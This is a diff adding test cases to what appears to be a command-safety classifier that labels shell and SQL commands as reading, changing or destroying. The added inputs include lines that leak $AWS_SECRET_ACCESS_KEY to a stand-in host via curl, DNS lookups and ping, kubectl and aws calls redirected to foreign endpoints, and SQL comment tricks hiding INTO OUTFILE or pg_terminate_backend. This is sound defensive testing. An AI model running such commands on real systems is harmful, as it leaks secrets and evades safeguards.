@@ -10,6 +10,13 @@ READS = r"""
 curl https://api.example.com/health
 curl -sS -o /dev/null -w '%{http_code}' https://api.example.com/health
 curl -s https://api.example.com/metrics | grep http_requests
+curl -s $API_URL/health
+curl -s "https://$API_HOST/health"
+nslookup $API_HOST
+ping -c 4 $DB_HOST
+df -h | grep /dev/sda
+redis-cli config get maxmemory
+lsof -nP -iTCP:80 -sTCP:LISTEN
 psql $DATABASE_URL -c "SELECT 1"
 psql -h $PGHOST -U $PGUSER -d $PGDATABASE -c "SELECT count(*), state FROM pg_stat_activity GROUP BY state;"
 psql -l | x
@@ -104,6 +111,36 @@ psql -c "SELECT 1" -c "SELECT 2"
 psql -c "SELECT 1; SELECT 2"
 psql -c "$SQL"
 psql -c '\! ls'
+psql -c 'SELECT ours.lower(name) FROM users'
+mysql -e 'SELECT 5--1 INTO OUTFILE "/tmp/x"'
+mysql -e 'SELECT 1 /*M! INTO OUTFILE "/tmp/x" */'
+mysql -e "SELECT $$ INTO OUTFILE '/tmp/$$'"
+redis-cli config get requirepass
+redis-cli config get '*'
+curl 'https://api.example.com/[1-100000]'
+curl dict.example.com:6379/x
+curl "https://other.example.com/?$AWS_SECRET_ACCESS_KEY"
+curl -H "x: $AWS_SECRET_ACCESS_KEY" https://other.example.com
+nslookup $AWS_SECRET_ACCESS_KEY.other.example.com
+dig @other.example.com $AWS_SECRET_ACCESS_KEY
+ping -c 1 $AWS_SECRET_ACCESS_KEY.other.example.com
+kubectl --kubeconfig ./other get pods
+kubectl get pods --kubeconfig=./other
+kubectl get pods --server=https://other.example.com
+aws iot-data get-thing-shadow --thing-name x out
+aws appconfig get-configuration --application x out
+aws ebs get-snapshot-block --snapshot-id x out
+aws ssm get-parameter --name x --with-d
+aws --endpoint-url https://other.example.com sqs get-queue-url
+aws sqs get-queue-url --endpoint-url=https://other.example.com
+gh pr view -cw
+free -hs1
+lsof -nr5
+head /dev/zero
+wc /dev/watchdog
+grep x /dev/zero
+df -h | grep -f /dev/zero
+tail /dev/zero
 redis-cli
 redis-cli set a b
 redis-cli monitor
@@ -333,6 +370,19 @@ def test_of_a_transcript_what_was_typed_is_judged() -> None:
         ("SELECT 1 /*! INTO OUTFILE '/tmp/x' */", "changes"),
         ("TRUNCATE a", "destroys"),
         ("SELECT pg_terminate_backend(1)", "destroys"),
+        ("""SELECT 1 AS "'", pg_terminate_backend(1) AS "'" """, "destroys"),
+        ("""SELECT 1 AS "'", purge_all() AS "'" """, "changes"),
+        ("SELECT 1 AS a$$, pg_terminate_backend(1) AS b$$", "destroys"),
+        ("SELECT 1 AS a$$, purge_all() AS b$$", "changes"),
+        ("SELECT 1 -- \r, purge_all()", "changes"),
+        ("SELECT 1 /* /* */ ' */, purge_all() /* ' */", "changes"),
+        ("SELECT 1 # '\nINTO OUTFILE '/tmp/x' #'", "changes"),
+        ("SELECT ours.count(*) FROM a", "changes"),
+        ("SELECT ours . count (*) FROM a", "changes"),
+        ('SELECT ours."count"(*) FROM a', "changes"),
+        ("SELECT pg_catalog.pg_size_pretty(1)", "reads"),
+        ("SELECT a.state, count(*) FROM pg_stat_activity a\r\nWHERE a.pid IN (1, 2) -- ours\r\nGROUP BY 1", "reads"),
+        ('SELECT "update" FROM "my-table" /* a * b / c */', "reads"),
         ("", "changes"),
     ],
 )
